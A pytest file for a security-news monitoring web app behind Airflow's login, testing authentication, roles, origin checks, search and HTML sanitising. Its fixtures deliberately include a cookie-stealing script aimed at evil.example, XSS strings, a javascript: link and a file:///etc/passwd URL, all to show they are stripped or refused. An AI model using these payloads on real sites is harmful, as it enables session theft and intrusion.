"""The monitor's pages in the Airflow UI: digests and search, over a real database, behind Airflow's login."""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from airflow.api_fastapi.core_api.security import get_user
from fastapi.testclient import TestClient

from monitor import pipeline
from monitor.analyze import Models
from monitor.settings import Settings
from monitor.store import digests as digest_store
from monitor.store.db import Connection
from monitor.web.app import create_app

GOLDEN = Path(__file__).resolve().parents[1] / "fixtures" / "golden"


@pytest.fixture
def app(database_url: str):  # type: ignore[no-untyped-def]
    return create_app(lambda: database_url, get_user)


def test_pages_need_airflows_login(app) -> None:  # type: ignore[no-untyped-def]
    from airflow.api_fastapi.app import create_auth_manager

    create_auth_manager()  # what the api-server does at start; it checks tokens
    client = TestClient(app)
    for path in ("/digests", "/search?q=x", "/digests/2026-11-26", "/articles/1"):
        assert client.get(path).status_code == 401, path
    # A forged session cookie is refused too, not taken at its word.
    client.cookies.set("_token", "not-a-jwt")
    assert client.get("/digests").status_code == 403


def test_digests_and_search_for_a_logged_in_user(
    app, db: Connection, settings: Settings, models: Models
) -> None:  # type: ignore[no-untyped-def]
    app.dependency_overrides[get_user] = lambda: "analyst"  # stands in for a valid Airflow session
    settings.inbox_dir.mkdir(parents=True)
    (settings.inbox_dir / "workshop.txt").write_bytes((GOLDEN / "bishkek_workshop.txt").read_bytes())
    pipeline.ingest_inbox(settings, db)
    pipeline.process_pending(settings, db, models)
    today = datetime.now(UTC).date()
    built = pipeline.build_daily_digest(settings, db, models, today)
    client = TestClient(app)

    listing = client.get("/digests")
    assert listing.status_code == 200
    assert today.isoformat() in listing.text and "not sent" in listing.text
    assert "1 processed" in listing.text
    # A day without articles that the send step refused to mail says why in the list.
    empty = date(1999, 1, 2)
    outcome = pipeline.send_daily_digest(
        settings, db, models, empty, transport=lambda msg: None, recipients=["desk@example.org"]
    )
    assert not outcome.sent
    assert "not sent: no articles in the window" in client.get("/digests").text

    page = client.get(f"/digests/{today.isoformat()}")
    # The digest step's page variant where it stores one (navigation, inline chart), else the mail HTML.
    try:
        variant = digest_store.stored_digest(db, today, "page")  # type: ignore[arg-type]
    except (KeyError, ValueError):
        variant = None
    assert page.status_code == 200 and page.text == (variant or built.html)
    assert "img-src data:" in page.headers["content-security-policy"]
    assert client.get(f"/digests/{today.isoformat()}/text").text == built.text
    assert client.get("/digests/1999-01-01").status_code == 404

    found = client.get("/search", params={"q": "Bishkek workshop"})
    assert "Regional Counter-Terrorism Workshop Opens In Bishkek" in found.text
    assert "Terrorism" in found.text  # its topics are listed
    assert "0 results" in client.get("/search", params={"q": "Reykjavik"}).text
    # Other forms of the words typed: "recruiting" finds "recruiters", "trainings" finds "training"
    # (the text has neither form typed); exclusions and phrases still apply.
    assert "Workshop Opens In Bishkek" in client.get("/search", params={"q": "recruiting trainings"}).text
    assert "0 results" in client.get("/search", params={"q": "recruiting -Bishkek"}).text
    assert "Workshop Opens In" in client.get("/search", params={"q": '"border guard"'}).text
    assert "0 results" in client.get("/search", params={"q": '"guards border"'}).text
    hostile = client.get("/search", params={"q": '<script>alert(1)</script> "unbalanced'})
    assert hostile.status_code == 200
    assert "<script>alert(1)</script>" not in hostile.text and "&lt;script&gt;" in hostile.text


HOSTILE_ITEM = """<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Wire</title>
<link>https://wire.example/</link><description>x</description><item><title>Gunmen attack border post</title>
<link>https://wire.example/border-post</link><guid>https://wire.example/border-post</guid>
<pubDate>Mon, 02 Nov 2026 08:00:00 GMT</pubDate><description><![CDATA[
<p onmouseover="steal()">Gunmen <b>attacked</b> a border post overnight, killing two border guards.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="https://track.example/pixel.gif" onerror="alert(1)">
<p>Read the <a href="javascript:alert(1)">full statement</a> or the
<a href="https://wire.example/statement">ministry statement</a>.</p>
<iframe src="https://evil.example/frame"></iframe>]]></description></item></channel></rss>"""
# What HOSTILE_ITEM carries that may run or fetch something in a browser.
ACTIVE_PARTS = ("<script", "steal()", "onerror", "javascript:", "<iframe", "evil.example", "track.example")


def test_article_page_shows_the_feed_html_sanitised(
    app,
    db: Connection,
    settings: Settings,
    tmp_path: Path,
    models: Models,
) -> None:  # type: ignore[no-untyped-def]
    from monitor.store import sources

    app.dependency_overrides[get_user] = lambda: "analyst"
    feed = tmp_path / "wire.xml"
    feed.write_text(HOSTILE_ITEM, encoding="utf-8")
    sources.add_feed(db, feed.as_uri(), "Wire", 30)
    pipeline.ingest_due_feeds(settings, db)
    pipeline.process_pending(settings, db, models)
    with db.cursor() as cur:
        cur.execute("SELECT id, raw, display_html FROM articles")
        ((article_id, raw, stored),) = cur.fetchall()
    db.commit()
    assert "<script>" in raw  # the raw input stays verbatim, and is never shown
    for active in ACTIVE_PARTS:
        assert active not in stored, active

    client = TestClient(app)
    found = client.get("/search", params={"q": "border guard"})
    assert f'href="articles/{article_id}"' in found.text
    page = client.get(f"/articles/{article_id}")
    assert page.status_code == 200
    assert "script-src" not in page.headers["content-security-policy"]  # default-src 'none' covers it
    assert page.headers["content-security-policy"].startswith("default-src 'none'")
    html = page.text
    assert "<b>attacked</b> a border post overnight" in html  # the source's formatting is kept
    assert '<a href="https://wire.example/statement" rel="noopener noreferrer nofollow">' in html
    for active in ACTIVE_PARTS:
        assert active not in html, active
    assert "Border security" in html or "Terrorism" in html  # its topics with their evidence
    assert client.get("/articles/999999").status_code == 404


# --- the workbench: search with filters, stories, trends, feeds -------------------------------------

SAMPLES = Path(__file__).resolve().parents[2] / "src" / "monitor" / "samples"


def _user(role: str | None, name: str = "analyst"):  # type: ignore[no-untyped-def]
    """An Airflow user of the SimpleAuthManager with that role (what `get_user` gives from a session)."""
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser

    return SimpleAuthManagerUser(username=name, role=role)


@pytest.fixture
def samples(db: Connection, settings: Settings, models: Models) -> dict[str, int]:
    """The sample inbox and the sample feed ingested, processed and put into stories, as `make up`
    does; the ids of the sources by name."""
    from monitor.store import sources

    settings.inbox_dir.mkdir(parents=True)
    for f in (SAMPLES / "inbox").iterdir():
        (settings.inbox_dir / f.name).write_bytes(f.read_bytes())
    sources.add_feed(db, (SAMPLES / "feed.xml").as_uri(), "Sample Security Wire", 30)
    # Another outlet carrying the Sudan story in its own words at the top: a near copy, one story.
    sample = (SAMPLES / "feed.xml").read_text(encoding="utf-8")
    sudan = sample[sample.index("<item>") : sample.index("</item>") + len("</item>")]
    sudan = (
        sudan.replace("Sudan ceasefire talks resume in Jeddah", "Jeddah talks on Sudan ceasefire restart")
        .replace("sw-2026-1101", "other-1")
        .replace("https://example.org/wire/", "https://other.example/")
        .replace("<![CDATA[", "<![CDATA[<p>From our correspondent.</p>", 1)
    )
    other = settings.home / "other.xml"
    other.parent.mkdir(parents=True, exist_ok=True)
    other.write_text(f"<rss version='2.0'><channel><title>Other</title>{sudan}</channel></rss>", "utf-8")
    pipeline.ingest_inbox(settings, db)
    pipeline.ingest_due_feeds(settings, db)
    sources.add_feed(db, other.as_uri(), "Other Wire", 30)  # later: the copy arrives second
    pipeline.ingest_due_feeds(settings, db)
    pipeline.process_pending(settings, db, models)
    pipeline.assign_stories(settings, db)
    with db.cursor() as cur:
        cur.execute("SELECT name, id FROM sources")
        ids = dict(cur.fetchall())
    db.commit()
    return ids


def _client(app, settings: Settings, role: str | None = "viewer") -> TestClient:  # type: ignore[no-untyped-def]
    app.dependency_overrides[get_user] = lambda: _user(role)
    return TestClient(app)


@pytest.fixture
def wb_app(database_url: str, settings: Settings):  # type: ignore[no-untyped-def]
    return create_app(lambda: database_url, get_user, lambda: settings)


def _titles(html: str) -> list[str]:
    import re

    return re.findall(r'<a href="articles/\d+">([^<]*)</a>', html)


def test_every_page_has_the_navigation_with_a_root_that_fits_its_depth(
    wb_app, settings: Settings, samples: dict[str, int], db: Connection
) -> None:  # type: ignore[no-untyped-def]
    client = _client(wb_app, settings)
    with db.cursor() as cur:
        cur.execute("SELECT min(id), min(story_id) FROM articles WHERE status = 'processed'")
        article, story = cur.fetchone()
    db.commit()
    for path, root in (
        ("/digests", ""),
        ("/search", ""),
        ("/stories", ""),
        ("/trends", ""),
        ("/feeds", ""),
        (f"/stories/{story}", "../"),
        (f"/articles/{article}", "../"),
    ):
        page = client.get(path)
        assert page.status_code == 200, path
        for target in ("digests", "search", "stories", "trends", "feeds", "quality", "watchlists"):
            assert f'href="{root}{target}"' in page.text, (path, target)
        assert "default-src 'none'" in page.headers["content-security-policy"], path


def test_search_snippets_source_and_every_filter(
    wb_app, settings: Settings, samples: dict[str, int], db: Connection
) -> None:  # type: ignore[no-untyped-def]
    client = _client(wb_app, settings)
    found = client.get("/search", params={"q": "heroin"})
    assert "Border Guards Seize Record Heroin Haul On Tajik-Afghan Frontier" in found.text
    assert "<mark>heroin</mark>" in found.text  # ts_headline's match, marked
    assert "Regional desk" in found.text  # the source the inbox file names
    assert "Sample Security Wire" in client.get("/search", params={"q": "hackers"}).text
    # Other forms of a word are still found and marked: "seize" finds "seized".
    assert "<mark>seized</mark>" in client.get("/search", params={"q": "seize"}).text

    # Filters without words: newest first, all of them combinable.
    wire = samples["Sample Security Wire"]
    by_source = client.get("/search", params={"source": wire})
    assert "7 results" in by_source.text  # its eighth item is a copy of an inbox article
    assert all(t for t in _titles(by_source.text))
    in_inbox = client.get("/search", params={"source": samples["Inbox"]})
    assert (
        "Kazakh wheat exports" not in in_inbox.text and "Interpol operation seizes weapons" in in_inbox.text
    )

    cyber = client.get("/search", params={"topic": "cyber"})
    assert "Czech agency blames state-backed hackers" in cyber.text
    assert "Sudan ceasefire talks" not in cyber.text
    assert "Sudan ceasefire talks" in client.get("/search", params={"country": "sudan"}).text  # any case
    assert "Sudan ceasefire talks" in client.get("/search", params={"country": "SD"}).text  # or its code
    assert "Sudan ceasefire talks" not in client.get("/search", params={"country": "Colombia"}).text
    europol = client.get("/search", params={"org": "Europol"}).text
    assert "Europol-backed operation dismantles trafficking ring" in europol
    both = client.get("/search", params={"org": "Europol", "topic": "organised_crime", "country": "Italy"})
    assert "Europol-backed operation dismantles trafficking ring" in both.text
    assert "0 results" in client.get("/search", params={"org": "Europol", "country": "Colombia"}).text
    assert "1 result" in client.get("/search", params={"q": "hackers", "source": wire}).text
    assert "0 results" in client.get("/search", params={"q": "heroin", "source": wire}).text
    with db.cursor() as cur:
        cur.execute("SELECT count(*) FROM articles WHERE status = 'processed' AND language = 'en'")
        (english,) = cur.fetchone()
    db.commit()
    assert f"{english} result" in client.get("/search", params={"lang": "en"}).text
    assert "0 results" in client.get("/search", params={"lang": "xx"}).text

    today = datetime.now(UTC).date()
    assert f"{english} result" in client.get("/search", params={"from": today.isoformat(), "lang": "en"}).text
    assert "0 results" in client.get("/search", params={"to": "2001-01-01", "lang": "en"}).text
    bad = client.get("/search", params={"from": "yesterday"})
    assert bad.status_code == 200 and "from=&#39;yesterday&#39;: a date as YYYY-MM-DD" in bad.text
    # The form keeps what was chosen.
    kept = client.get("/search", params={"topic": "cyber", "country": "Czechia"}).text
    assert '<option value="cyber" selected>' in kept and 'value="Czechia"' in kept
    # The options: the taxonomy's topics, the sources table, the most frequent countries.
    options = client.get("/search").text
    assert ">Sample Security Wire</option>" in options and '<option value="terrorism"' in options
    assert '<option value="Sudan">' in options


def test_search_pages_keep_the_filters(wb_app, settings: Settings, db: Connection, models: Models) -> None:  # type: ignore[no-untyped-def]
    from monitor.store import sources

    feed = settings.home / "many.xml"
    feed.parent.mkdir(parents=True, exist_ok=True)
    items = "".join(
        f"<item><title>Border guards report crossing number {i}</title><link>https://wire.example/{i}</link>"
        f"<guid>g{i}</guid><description>Border guards at checkpoint {i} counted {i * 7} crossings "
        f"and {i % 5} seizures of smuggled fuel near the frontier station {i}.</description></item>"
        for i in range(60)
    )
    feed.write_text(f"<rss version='2.0'><channel><title>W</title>{items}</channel></rss>", encoding="utf-8")
    sources.add_feed(db, feed.as_uri(), "Many", 30)
    pipeline.ingest_due_feeds(settings, db)
    pipeline.process_pending(settings, db, models)
    client = _client(wb_app, settings)
    first = client.get("/search", params={"q": "border guards", "lang": "en"})
    assert "60 results; 1–25 shown" in first.text
    assert len(_titles(first.text)) == 25
    assert "previous" not in first.text
    assert 'href="search?q=border+guards&amp;lang=en&amp;page=2"' in first.text
    second = client.get("/search", params={"q": "border guards", "lang": "en", "page": 2})
    third = client.get("/search", params={"q": "border guards", "lang": "en", "page": 3})
    assert "26–50 shown" in second.text and "51–60 shown" in third.text
    assert 'href="search?q=border+guards&amp;lang=en&amp;page=1"' in second.text
    assert "next" not in third.text.split('class="paging"')[1]
    seen = _titles(first.text) + _titles(second.text) + _titles(third.text)
    assert len(seen) == len(set(seen)) == 60  # no article twice, none left out
    # Without words: newest first (first seen, then id), 25 a page.
    newest = _titles(client.get("/search", params={"lang": "en"}).text)
    assert newest[0] == "Border guards report crossing number 59" and len(newest) == 25


def test_snippets_are_text_never_markup(wb_app, settings: Settings, db: Connection, models: Models) -> None:  # type: ignore[no-untyped-def]
    settings.inbox_dir.mkdir(parents=True)
    (settings.inbox_dir / "odd.txt").write_text(
        "Smugglers caught at the border\n\nCustoms said <script>alert(1)</script> smugglers \ue001 used "
        "&lt;b&gt; tunnels under the border fence near the crossing, and more smugglers were sought.\n",
        encoding="utf-8",
    )
    pipeline.ingest_inbox(settings, db)
    pipeline.process_pending(settings, db, models)
    page = _client(wb_app, settings).get("/search", params={"q": "smugglers"}).text
    snippet = page.split('<div class="snippet">')[1].split("</div>")[0]
    assert "<mark>smugglers</mark>" in snippet.lower()
    assert "<script" not in page and "\ue001" not in page and "\ue000" not in page
    assert snippet.count("<mark>") == snippet.count("</mark>")


def test_story_page_and_the_recent_stories(
    wb_app, settings: Settings, samples: dict[str, int], db: Connection
) -> None:  # type: ignore[no-untyped-def]
    with db.cursor() as cur:
        cur.execute(
            "SELECT id, article_count, source_count FROM stories ORDER BY article_count DESC, id LIMIT 1"
        )
        story, n, outlets = cur.fetchone()
        cur.execute("SELECT id FROM articles WHERE story_id = %s ORDER BY first_seen_at, id", (story,))
        members = [r[0] for r in cur.fetchall()]
    db.commit()
    assert n == 2 and outlets == 2  # the Sudan story and its copy by the other outlet
    client = _client(wb_app, settings)
    listing = client.get("/stories").text
    assert f'href="stories/{story}"' in listing
    assert listing.index(f'href="stories/{story}"') < listing.index("Sudan ceasefire")  # largest first
    page = client.get(f"/stories/{story}")
    assert page.status_code == 200
    assert "Story of 2 articles from 2 sources" in page.text
    assert [
        int(x) for x in __import__("re").findall(r'<td><a href="../articles/(\d+)">', page.text)
    ] == members
    assert "Sample Security Wire ×1" in page.text  # the outlets
    assert "Other Wire ×1" in page.text
    assert "Countries" in page.text and "Sudan ×2" in page.text  # entities by type, counted
    assert f'(copy of <a href="../articles/{members[0]}">' in page.text
    assert client.get("/stories/999999").status_code == 404
    # The article page links to its story.
    article = client.get(f"/articles/{members[0]}").text
    assert f'<a href="../stories/{story}">story of 2 articles from 2 sources</a>' in article


def test_trends_by_topic_and_country_with_spikes(
    wb_app, settings: Settings, samples: dict[str, int], db: Connection
) -> None:  # type: ignore[no-untyped-def]
    from dataclasses import replace

    from monitor.store import trends as trend_store

    client = _client(wb_app, settings)
    page = client.get("/trends", params={"days": 7})
    assert page.status_code == 200
    assert "By topic" in page.text and "Kazakhstan" in page.text and "Terrorism" in page.text
    assert 'class="spike"' not in page.text.split("<h2>By topic")[1]  # no history: no spike on day one
    for days in (30, 90):
        assert client.get("/trends", params={"days": days}).status_code == 200
    assert client.get("/trends", params={"days": 5}).status_code == 400
    # A quiet fortnight of history stored as the pipeline keeps it: today is a spike for Tajikistan
    # (2 articles against 0 a day) once the threshold allows, as the digest would judge it.
    today = datetime.now(UTC).date()
    from datetime import timedelta

    for back in range(1, 15):
        trend_store.store_day_counts(
            db, today - timedelta(days=back), "UTC", [("topic", "cyber", "Cyber", 1)]
        )
    db.commit()
    low = replace(settings, spike_min_articles=2, spike_factor=2.0, spike_max_p=0.5)
    spiky = create_app(lambda: settings.database_url or "", get_user, lambda: low)
    text = _client(spiky, settings).get("/trends", params={"days": 7}).text
    countries = text.split("<h2>By country")[1]
    assert "spike, usual 0.0/day" in countries
    assert f'<span class="spike">{today.strftime("%m-%d")}: 4</span>' in countries  # Kazakhstan


def test_feeds_page_health_and_changes_by_operators_only(
    wb_app, settings: Settings, samples: dict[str, int], db: Connection
) -> None:  # type: ignore[no-untyped-def]
    site = {"Origin": "http://testserver"}
    viewer = _client(wb_app, settings, "viewer")
    page = viewer.get("/feeds").text
    assert "Sample Security Wire" in page and "every" not in page.split("<table>")[0]
    assert "8<br>" in page.replace(" ", "").replace("\n", "") or ">8<" in page  # its articles
    assert "*/15 * * * *" in page

    add = {"action": "add", "url": "https://feeds.example/world.xml", "name": "World", "interval": "60"}
    refused = viewer.post("/feeds", data=add, headers=site)
    assert refused.status_code == 403 and "needs the role op or admin" in refused.text
    user = _client(wb_app, settings, "user")
    assert user.post("/feeds", data=add, headers=site).status_code == 403
    op = _client(wb_app, settings, "op")
    assert op.post("/feeds", data=add, headers={"Origin": "https://evil.example"}).status_code == 403
    assert op.post("/feeds", data=add).status_code == 403  # no Origin, no Referer
    with db.cursor() as cur:
        cur.execute("SELECT count(*) FROM sources WHERE url LIKE 'https://feeds.example/%'")
        assert cur.fetchone()[0] == 0
    db.commit()

    done = op.post("/feeds", data=add, headers=site, follow_redirects=False)
    assert done.status_code == 303 and done.headers["location"].startswith("feeds?done=added+feed")
    shown = op.get(done.headers["location"]).text
    assert "added feed" in shown and "World" in shown and "https://feeds.example/world.xml" in shown
    with db.cursor() as cur:
        cur.execute("SELECT id, name, interval_minutes, enabled FROM sources WHERE url = %s", (add["url"],))
        feed_id, name, interval, enabled = cur.fetchone()
    db.commit()
    assert (name, interval, enabled) == ("World", 60, True)
    # The referer is enough where a browser sends no Origin.
    admin = _client(wb_app, settings, "admin")
    paused = admin.post(
        "/feeds",
        data={"action": "pause", "feed": str(feed_id)},
        headers={"Referer": "http://testserver/feeds"},
    )
    assert paused.status_code == 200 and f"paused feed {feed_id}: World" in paused.text
    with db.cursor() as cur:
        cur.execute("SELECT enabled FROM sources WHERE id = %s", (feed_id,))
        assert cur.fetchone()[0] is False
    db.commit()
    assert "Resume" in paused.text
    assert op.post("/feeds", data={"action": "resume", "feed": str(feed_id)}, headers=site).status_code == 200
    removed = op.post("/feeds", data={"action": "remove", "feed": str(feed_id)}, headers=site)
    assert f"removed feed {feed_id}: World; its 0 articles stay" in removed.text
    with db.cursor() as cur:
        cur.execute("SELECT count(*) FROM sources WHERE id = %s", (feed_id,))
        assert cur.fetchone()[0] == 0
    db.commit()
    assert op.post("/feeds", data={"action": "remove", "feed": "99999"}, headers=site).status_code == 404


@pytest.mark.parametrize(
    ("url", "interval", "message"),
    [
        ("ftp://feeds.example/x.xml", "30", "feed URLs must start with http://, https://"),
        ("file:///etc/passwd", "30", "feed URLs must start with http://, https://"),
        ("", "30", "(empty URL): feed URLs must start with"),
        ("https://feeds.example/a b.xml", "30", "a feed URL cannot contain spaces"),
        ("https://feeds.example/x.xml", "0", "0: the interval is minutes between polls, 1 to 10080"),
        ("https://feeds.example/x.xml", "often", "often: the interval is a whole number of minutes"),
    ],
)
def test_a_bad_feed_is_refused_on_the_page_and_nothing_is_stored(
    wb_app, settings: Settings, db: Connection, url: str, interval: str, message: str
) -> None:  # type: ignore[no-untyped-def]
    op = _client(wb_app, settings, "op")
    answer = op.post(
        "/feeds",
        data={"action": "add", "url": url, "name": "X", "interval": interval},
        headers={"Origin": "http://testserver"},
    )
    assert answer.status_code == 400
    assert message in answer.text.replace("&#39;", "'")
    assert f'value="{interval}"' in answer.text  # what was typed stays in the form
    with db.cursor() as cur:
        cur.execute("SELECT count(*) FROM sources")
        assert cur.fetchone()[0] == 0
    db.commit()


def test_workbench_pages_need_airflows_login(wb_app) -> None:  # type: ignore[no-untyped-def]
    from airflow.api_fastapi.app import create_auth_manager

    create_auth_manager()
    client = TestClient(wb_app)
    for path in ("/stories", "/stories/1", "/trends", "/feeds", "/search?topic=cyber"):
        answer = client.get(path)
        assert answer.status_code == 401, path
        assert "Security" not in answer.text
    posted = client.post(
        "/feeds", data={"action": "remove", "feed": "1"}, headers={"Origin": "http://testserver"}
    )
    assert posted.status_code == 401


def test_the_digests_list_shows_the_count_as_mailed_after_a_rebuild(
    wb_app, db: Connection, settings: Settings, models: Models
) -> None:  # type: ignore[no-untyped-def]
    from datetime import timedelta

    day = datetime.now(UTC).date() - timedelta(days=2)  # a complete day: sent, not a preview

    def arrive(name: str, body: bytes) -> None:
        (settings.inbox_dir / name).write_bytes(body)
        pipeline.ingest_inbox(settings, db)
        pipeline.process_pending(settings, db, models)
        with db.cursor() as cur:  # as if it had arrived on that day
            cur.execute(
                """UPDATE articles SET first_seen_at = first_seen_at - interval '2 days'
                    WHERE first_seen_at > now() - interval '1 day'"""
            )
        db.commit()

    settings.inbox_dir.mkdir(parents=True)
    arrive("workshop.txt", (GOLDEN / "bishkek_workshop.txt").read_bytes())
    sent = pipeline.send_daily_digest(
        settings, db, models, day, transport=lambda msg: None, recipients=["desk@example.org"]
    )
    assert sent.sent and sent.articles == 1
    arrive("raids.txt", (SAMPLES / "inbox" / "brussels_counter_terrorism_raids.txt").read_bytes())
    assert pipeline.build_daily_digest(settings, db, models, day).articles == 2  # rebuilt after sending
    row = _client(wb_app, settings).get("/digests").text.split(f">{day.isoformat()}</a>")[1].split("</tr>")[0]
    assert '<td>1 <span class="muted">as mailed (2 rebuilt' in row, row


def test_a_page_shows_its_forms_only_to_roles_that_may_send_them(
    wb_app, settings: Settings, samples: dict[str, int], db: Connection
) -> None:  # type: ignore[no-untyped-def]
    """A viewer reads the corrections, feeds and watch-lists but gets no form it would be refused;
    an analyst (user) corrects and keeps watch-lists but does not edit feeds; an operator edits feeds."""
    with db.cursor() as cur:
        cur.execute("SELECT min(id) FROM articles WHERE status = 'processed'")
        (article,) = cur.fetchone()
    db.commit()
    pages = {"article": f"/articles/{article}", "feeds": "/feeds", "watchlists": "/watchlists"}
    seen = {}
    for role in ("viewer", "user", "op"):
        client = _client(wb_app, settings, role)
        seen[role] = {name: client.get(path).text for name, path in pages.items()}
    viewer, user, op = seen["viewer"], seen["user"], seen["op"]
    for name, page in viewer.items():
        assert 'method="post"' not in page, name
        assert 'class="muted read-only"' in page, name
    assert 'value="topic_reject"' in user["article"] and "read-only" not in user["article"]
    assert 'id="add-watchlist"' in user["watchlists"]
    assert 'id="add-feed"' not in user["feeds"] and "operators (role op or admin)" in user["feeds"]
    assert 'id="add-feed"' in op["feeds"] and 'value="remove"' in op["feeds"]


def test_the_article_page_groups_entities_by_type_and_puts_the_text_before_the_corrections(
    wb_app, settings: Settings, samples: dict[str, int], db: Connection
) -> None:  # type: ignore[no-untyped-def]
    with db.cursor() as cur:
        cur.execute(
            """SELECT a.id, array_agg(DISTINCT e.type ORDER BY e.type)
                 FROM articles a JOIN article_entities ae ON ae.article_id = a.id
                 JOIN entities e ON e.id = ae.entity_id
                WHERE a.status = 'processed' GROUP BY a.id ORDER BY count(DISTINCT e.type) DESC, a.id
                LIMIT 1"""
        )
        article, types = cur.fetchone()
        cur.execute("SELECT clean_text FROM articles WHERE id = %s", (article,))
        (text,) = cur.fetchone()
    db.commit()
    page = _client(wb_app, settings, "user").get(f"/articles/{article}").text
    headings = {
        "country": "Countries",
        "place": "Places",
        "organisation": "Organisations",
        "person": "People",
    }
    for kind, heading in headings.items():
        assert (f"<tr><th>{heading}</th>" in page) == (kind in types), heading
    assert 0 < page.index("<article>") < page.index("<h2>Corrections</h2>")
    assert text.split()[0] in page[page.index("<article>") : page.index("<h2>Corrections</h2>")]


def test_russian_words_find_their_forms_and_an_uncovered_language_says_so(
    wb_app, settings: Settings, db: Connection, models: Models
) -> None:  # type: ignore[no-untyped-def]
    from monitor.models import FeedItem
    from monitor.store import articles

    russian = (
        "В результате теракта в центре города погибли три человека. Ответственность за нападение на "
        "полицейский участок взяла на себя группировка, которую власти называют террористической."
    )
    kazakh = (
        "Шекарашылар Қазақстан мен Қырғызстан шекарасында есірткі тасымалдаушыларды ұстады, деп хабарлады "
        "Ұлттық қауіпсіздік комитетінің баспасөз қызметі."
    )
    items = [
        (FeedItem(title="Теракт в центре города", raw=russian), "ru.txt"),
        (FeedItem(title="Шекарада есірткі тасымалдаушылар ұсталды", raw=kazakh), "kk.txt"),
    ]
    articles.insert_items(db, source_id=None, origin="inbox", items=items)
    db.commit()
    pipeline.process_pending(settings, db, models)
    with db.cursor() as cur:
        cur.execute("SELECT language, id FROM articles WHERE origin_ref IN ('ru.txt', 'kk.txt')")
        ids = dict(cur.fetchall())
        cur.execute("SELECT count(*) FROM article_topics WHERE article_id = %s", (ids["kk"],))
        assert cur.fetchone() == (0,)  # Kazakh: no terms, so no topics (not English terms on it)
    db.commit()
    assert set(ids) == {"ru", "kk"}
    client = _client(wb_app, settings)
    # Russian forms: "теракты" finds "теракта", "террористов" finds "террористической"
    for query in ("теракты", "террористов"):
        found = client.get("/search", params={"q": query}).text
        assert "Теракт в центре города" in found and "1 result" in found, query
    assert "0 results" in client.get("/search", params={"q": "землетрясение"}).text
    page = client.get(f"/articles/{ids['kk']}").text
    assert "Kazakh (kk)" in page and "language not covered" in page
    assert "No topics: not read in this language." in page
    ru_page = client.get(f"/articles/{ids['ru']}").text
    assert ("language not covered" in ru_page) != models.classifier.covers("ru")
    # The digest counts what it could not read.
    day = datetime.now(UTC).date()
    pipeline.build_daily_digest(settings, db, models, day)
    text = digest_store.stored_digest(db, day, "text") or ""
    unread = ["Kazakh 1"] if models.classifier.covers("ru") else ["Kazakh 1", "Russian 1"]
    expected = f"NOT READ: {len(unread)} article{'s' if len(unread) > 1 else ''} in languages the monitor"
    assert f"{expected} does not cover ({', '.join(unread)})" in " ".join(text.split())
